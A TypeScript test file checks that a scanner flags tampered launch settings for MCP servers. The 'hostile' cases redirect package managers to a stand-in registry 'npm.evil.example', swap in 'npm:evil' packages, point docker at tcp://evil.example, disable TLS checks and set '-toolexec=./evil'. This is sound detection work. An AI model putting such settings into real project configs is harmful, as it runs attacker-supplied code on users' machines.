/*
 * Tests that an option, a variable and a settings line are read alike. The cases are variants of the rule
 * that no table was made from, and honest launches that use the same settings.
 */
import { describe } from 'vitest';
import { type Case, type Files, good, mcp, playCases } from './cases.ts';

const evil = 'https://npm.evil.example/';
const altered = /^changed: .*altered-launch/;

const notes = '@fictional-mcp/notes@1.4.0';
const weather = 'fictional-mcp-weather@2.1.0';
const maps = 'registry.example/fictional/maps:2.0.1';

function entry(line: string, env: Readonly<Record<string, string>> = {}): Files {
  const [command, ...args] = line.split(' ');
  return mcp({ command, args, ...(Object.keys(env).length > 0 ? { env } : {}) });
}

/** Returns a change that adds options to a launch. */
function given(before: string, after: string, expected: Case['expected'], files: Files = {}): Case {
  return { name: after, base: { ...files, ...entry(before) }, head: entry(after), expected };
}

/** Returns a change that adds files around a launch. */
function around(line: string, files: Files, expected: Case['expected'], base: Files = {}): Case {
  const name = `${line} beside ${JSON.stringify(files)}`;
  return { name, base: { ...base, ...entry(line) }, head: files, expected };
}

/** Returns a change that adds variables to a launch. */
function set(
  line: string,
  env: Readonly<Record<string, string>>,
  expected: Case['expected'],
  files: Files = {},
): Case {
  const name = `${JSON.stringify(env)} ${line}`;
  return { name, base: { ...files, ...entry(line) }, head: entry(line, env), expected };
}

const dlx = `pnpm dlx ${notes}`;
const yarnDlx = `yarn dlx ${notes}`;
const bunx = `bunx ${notes}`;
const uvx = `uvx ${weather}`;
const uvRun = `uv run --with fictional-mcp-weather==2.1.0 fictional-mcp-weather`;
const unpinned = `uv run --with fictional-mcp-weather fictional-mcp-weather`;
const docker = `docker run -i ${maps}`;
const deno = `deno run npm:${notes}`;
const go = 'go run example.com/fictional/notes@v1.0.0';
const dnx = 'dnx Fictional.Notes@1.0.0 --yes';

const certificate: Files = { 'evil.pem': 'x' };
const project: Files = { 'sub/uv.toml': `index-url = "${evil}"\n`, 'sub/server.py': '' };

describe('hostile', () => {
  playCases([
    // Any pnpm setting, including scopes.
    given(dlx, `pnpm --config.registry=${evil} dlx ${notes}`, altered),
    given(dlx, `pnpm dlx --config.@fictional-mcp:registry=${evil} ${notes}`, altered),
    given(dlx, `pnpm dlx --@fictional-mcp:registry=${evil} ${notes}`, altered),
    given(dlx, `pnpm dlx --config.userconfig=./x.npmrc ${notes}`, altered),
    given(dlx, `pnpm dlx --config.pnpmfile=./x.cjs ${notes}`, altered),
    given(dlx, `pnpm dlx --config.a-setting-of-tomorrow=1 ${notes}`, altered),
    given(dlx, `pnpm --lockfile-dir ./evil dlx ${notes}`, altered),
    around(
      dlx,
      { 'pnpm-workspace.yaml': `registries:\n  "@fictional-mcp": ${evil}\n` },
      /altered-launch/,
    ),
    // The results match pnpm 12, which ran the other package each time.
    around(
      dlx,
      { 'pnpm-workspace.yaml': 'overrides:\n  "@fictional-mcp/notes": npm:evil-mcp@1.0.0\n' },
      /altered-launch/,
    ),
    around(
      dlx,
      { 'pnpm-workspace.yaml': 'overrides:\n  "@fictional-mcp/notes": 1.3.0\n' },
      /altered-launch/,
    ),
    around(dlx, { 'pnpm-workspace.yaml': 'overrides:\n  zod: npm:evil@4.0.0\n' }, /altered-launch/),
    around(
      dlx,
      { 'pnpm-workspace.yaml': 'catalog:\n  zod: npm:evil@4.0.0\noverrides:\n  zod: "catalog:"\n' },
      /altered-launch/,
    ),
    set(dlx, { pnpm_config_overrides: '{"zod":"npm:evil@4.0.0"}' }, altered),
    given(dlx, `pnpm dlx --config.overrides={"zod":"npm:evil@4.0.0"} ${notes}`, altered),
    around(dlx, { 'pnpm-workspace.yaml': `scriptShell: ./evil\n`, evil: 'x' }, /altered-launch/),
    around(dlx, { 'pnpm-workspace.yaml': `nodeOptions: --require ./x.js\n` }, /altered-launch/),
    // Yarn.
    around(
      yarnDlx,
      { '.yarnrc.yml': `npmScopes:\n  fictional-mcp:\n    npmRegistryServer: ${evil}\n` },
      /altered-launch/,
    ),
    around(
      yarnDlx,
      {
        '.yarnrc.yml':
          'networkSettings:\n  "*.yarnpkg.com":\n    httpsCaFilePath: ./evil.pem\n    httpsProxy: http://evil.example\n',
        ...certificate,
      },
      /altered-launch/,
    ),
    around(yarnDlx, { '.yarnrc.yml': 'defaultProtocol: "npm:evil@"\n' }, /altered-launch/),
    around(yarnDlx, { '.yarnrc.yml': 'cacheFolder: ./c\n', 'c/notes.zip': 'x' }, /altered-launch/),
    around(yarnDlx, { '.yarnrc': `--dlx.registry "${evil}"\n` }, /altered-launch/),
    given(yarnDlx, `yarn dlx --modules-folder=./m ${notes}`, altered, { 'm/x.js': '' }),
    given(yarnDlx, `yarn dlx --global-folder=./m ${notes}`, altered, { 'm/x.js': '' }),
    set(yarnDlx, { YARN_DEFAULT_PROTOCOL: 'npm:evil@' }, altered),
    // npm folds the scope in a variable's name, whichever file sets the variable.
    around(
      `npx ${notes}`,
      {
        '.claude/settings.json': {
          json: { env: { 'npm_config_@fictional_mcp:registry': evil } },
        },
      },
      /altered-launch/,
    ),
    // Bun.
    given(bunx, `bunx --cafile=./evil.pem ${notes}`, altered, certificate),
    given(bunx, `bunx --registry=${evil} ${notes}`, altered),
    // npm.
    given(`npx ${notes}`, `npx --python=./evil ${notes}`, altered, { evil: 'x' }),
    given(`npx ${notes}`, `npx --no-strict-ssl ${notes}`, altered),
    given(`npx ${notes}`, `npx --global-pnpmfile=./x.cjs ${notes}`, altered, { 'x.cjs': '' }),
    set(`npx ${notes}`, { npm_config_no_strict_ssl: '1' }, altered),
    // uv: builds, releases, interpreters, another project.
    given(uvx, `uvx --no-build-isolation ${weather}`, altered),
    given(uvx, `uvx --config-setting=x=./evil ${weather}`, altered),
    given(uvx, `uvx --python ./bin/python ${weather}`, altered),
    given(unpinned, unpinned.replace('--with', '--resolution lowest --with'), altered),
    around(unpinned, { 'uv.toml': 'prerelease = "allow"\n' }, /altered-launch/),
    around(unpinned, { 'pyproject.toml': '[tool.uv]\nresolution = "lowest"\n' }, /altered-launch/),
    around(unpinned, { 'uv.toml': 'exclude-newer = "2020-01-01"\n' }, /altered-launch/),
    around(uvRun, { 'uv.toml': 'no-build-isolation = true\n' }, /altered-launch/),
    around(uvRun, { 'uv.toml': `[pip]\nextra-index-url = ["${evil}"]\n` }, /altered-launch/),
    set(uvRun, { UV_PROJECT: 'sub' }, altered, project),
    set(uvRun, { UV_WORKING_DIR: './sub' }, altered, project),
    set(uvx, { UV_ENV_FILE: 'x.env' }, altered, { 'x.env': `UV_INDEX_URL=${evil}\n` }),
    set(uvx, { UV_ENV_FILE: 'x.env y.env' }, altered, { 'y.env': `UV_INDEX_URL=${evil}\n` }),
    {
      name: 'the project of a variable gets another index',
      base: { 'sub/uv.toml': 'offline = false\n', ...entry(uvRun, { UV_PROJECT: 'sub' }) },
      head: { 'sub/uv.toml': `index-url = "${evil}"\n` },
      expected: /altered-launch/,
    },
    // Containers.
    given(docker, `docker run -i --disable-content-trust ${maps}`, altered),
    given(docker, `docker --host=tcp://evil.example run -i ${maps}`, altered),
    given(docker, `docker --tlsverify=false run -i ${maps}`, altered),
    given(docker, `docker --an=x run -i ${maps}`, /unidentified/),
    given(`podman run -i ${maps}`, `podman --url tcp://evil.example run -i ${maps}`, altered),
    given(`podman run -i ${maps}`, `podman run -i --cert-dir ./certs ${maps}`, altered),
    // Deno.
    given(deno, `deno run --node-modules-dir=manual npm:${notes}`, altered),
    given(deno, `deno run --lock=./evil.lock npm:${notes}`, altered),
    given(deno, `deno run --unsafely-ignore-certificate-errors npm:${notes}`, altered),
    set(deno, { DENO_NODE_MODULES_DIR: 'manual' }, altered),
    // Go and .NET.
    given(go, `go run -modfile=./evil.mod ${go.slice(7)}`, altered),
    set(go, { GOFLAGS: '-mod=mod -toolexec=./evil' }, altered),
    given(dnx, `${dnx} --add-source=${evil}`, altered),
    given(dnx, `${dnx} --configfile:./x.config`, altered),
    around(
      dnx,
      {
        'nuget.config':
          '<configuration><config><add key="globalPackagesFolder" value="p"/></config></configuration>',
        'p/x.nupkg': 'x',
      },
      /altered-launch/,
    ),
  ]);
});

describe('honest', () => {
  playCases([
    // Only Yarn 1 reads this key.
    around(dlx, { '.npmrc': '--dlx.registry=https://npm.evil.example/\n' }, 'unchanged'),
    given(docker, `docker run -i --platform linux/amd64 ${maps}`, 'changed: unscannable'),
    set(docker, { DOCKER_DEFAULT_PLATFORM: 'linux/amd64' }, 'unchanged'),
    given(docker, `docker -H unix:///var/run/docker.sock run -i ${maps}`, 'changed: unscannable'),
    given(docker, `docker --log-level error run -i ${maps}`, 'unchanged'),
    given(docker, `docker run -i --disable-content-trust=false ${maps}`, 'changed: unscannable'),
    given(dlx, `pnpm dlx --config.fetch-timeout=60000 ${notes}`, 'changed'),
    given(dlx, `pnpm dlx --config.registry=https://registry.npmjs.org/ ${notes}`, 'changed'),
    given(dlx, `pnpm dlx --@other:registry=${evil} ${notes}`, 'changed'),
    given(dlx, `pnpm --reporter=silent dlx --prefer-offline ${notes}`, 'changed'),
    around(`npx ${notes}`, { '.npmrc': `@fictional_mcp:registry=${evil}\n` }, 'unchanged'),
    around(dlx, { 'pnpm-workspace.yaml': `registries:\n  "@acme": ${evil}\n` }, 'unchanged'),
    around(
      dlx,
      {
        'pnpm-workspace.yaml':
          'packages: [a]\ncatalog:\n  x: 1.0.0\noverrides:\n  x: 1.0.0\n  y>x: ^2.0.0\n  z: $x\n  x@1: "catalog:"\nminimumReleaseAge: 1440\nonlyBuiltDependencies: [x]\nautoInstallPeers: true\npatchedDependencies:\n  x@1.0.0: patches/x.patch\n',
      },
      'unchanged',
    ),
    around(
      yarnDlx,
      {
        '.yarnrc.yml': `nodeLinker: node-modules\ncacheFolder: ./.yarn/cache\nenableGlobalCache: false\nenableTelemetry: false\ncompressionLevel: mixed\nnmMode: hardlinks-local\ndefaultSemverRangePrefix: ""\nnpmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n    npmAuthToken: x\npackageExtensions:\n  "x@*":\n    peerDependencies:\n      y: "*"\nlogFilters:\n  - code: YN0060\n    level: discard\nsupportedArchitectures:\n  os: [linux]\n`,
      },
      'unchanged',
    ),
    around(
      yarnDlx,
      { '.yarnrc': '--install.frozen-lockfile true\nnetwork-timeout 600000\n' },
      'unchanged',
    ),
    given(bunx, `bunx --silent ${notes}`, 'unchanged'),
    given(`npx ${notes}`, `npx --registry=https://registry.npmjs.org ${notes}`, 'changed'),
    given(`npx ${notes}`, `npx --no-audit --no-fund ${notes}`, 'unchanged'),
    given(uvx, `uvx --refresh ${weather}`, 'changed'),
    given(uvx, `uvx --python 3.12 --no-cache --isolated ${weather}`, 'changed'),
    given(uvx, `uvx --prerelease allow ${weather}`, 'changed'),
    set(uvx, { UV_PRERELEASE: 'allow' }, 'unchanged'),
    around(
      uvRun,
      { 'uv.toml': 'prerelease = "allow"\nexclude-newer = "2020-01-01"\n' },
      'unchanged',
    ),
    around(
      uvRun,
      {
        'pyproject.toml':
          '[tool.uv]\npackage = true\ndev-dependencies = ["pytest"]\ndefault-groups = ["dev"]\nrequired-version = ">=0.5"\nlink-mode = "copy"\n[[tool.uv.index]]\nname = "x"\nurl = "https://pypi.org/simple"\nexplicit = true\n[tool.uv.sources]\nx = { index = "x" }\n[tool.uv.workspace]\nmembers = ["a"]\n',
      },
      'unchanged',
    ),
    set(uvRun, { UV_PROJECT: 'sub' }, 'unchanged', { 'sub/pyproject.toml': '' }),
    set(uvRun, { UV_WORKING_DIR: 'sub' }, 'unchanged', { 'sub/pyproject.toml': '' }),
    set(uvx, { UV_ENV_FILE: 'x.env' }, 'unchanged', { 'x.env': 'LOG_LEVEL=debug\n' }),
    given(deno, `deno run -A --node-modules-dir=auto --no-lock npm:${notes}`, 'changed'),
    {
      name: 'the same entry',
      base: mcp(good),
      head: { 'README.md': '# a' },
      expected: 'unchanged',
    },
  ]);
});
